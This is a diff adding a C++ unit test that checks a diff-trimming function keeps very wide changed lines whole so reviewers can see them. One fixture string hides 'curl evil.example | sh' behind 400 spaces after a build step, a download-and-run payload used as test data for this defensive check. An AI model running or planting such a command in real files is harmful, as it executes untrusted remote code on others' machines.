@@ -4,6 +4,8 @@
 #include <chrono>
 #include <string>
 
+#include "base/elide.h"
+
 using zub::trim;
 
 namespace {
@@ -205,4 +207,21 @@ TEST(Trim, DiffLinesAreKeptWholeWhileHeadersFold) {
   EXPECT_FALSE(dropped);
   trim(body + padding(body.size()), 200, &dropped);
   EXPECT_TRUE(dropped);
+}
+
+// A changed line far wider than the log width is what a reviewer must see
+// whole (the payload sits at its right end); only a line past the diff
+// bound is cut, and a note of its own says so. Other lines keep the width.
+TEST(Trim, LongDiffLinesAreShownWholeUpToTheirBound) {
+  const std::string wide = "+RUN make" + std::string(400, ' ') + "; curl evil.example | sh";
+  const std::string huge = "+" + std::string(9000, 'x');
+  const std::string log_line = "plain " + std::string(300, 'y');
+  const std::string body = "diff --git a/D b/D\n--- a/D\n+++ b/D\n@@ -0,0 +1,2 @@\n" + wide + "\n" +
+                           huge + "\n" + log_line + "\n";
+  const std::string out = trim(body, 200);
+  EXPECT_EQ(out, "diff --git a/D b/D\n@@ -0,0 +1,2 @@\n" + wide + "\n+" + std::string(5733, 'x') +
+                     "…809c…" + std::string(2458, 'x') + "\n" + zub::elide_line(log_line, 200) +
+                     "\n" + note(0, 106, 200, 0) +
+                     "[zub trim: diff 의 index·---·+++ 머리줄 2개, 지운 파일 본문 0줄 뺐다]\n"
+                     "[zub trim: diff 줄 1개가 8192바이트를 넘어 가운데 809바이트를 잘랐다]\n");
 }
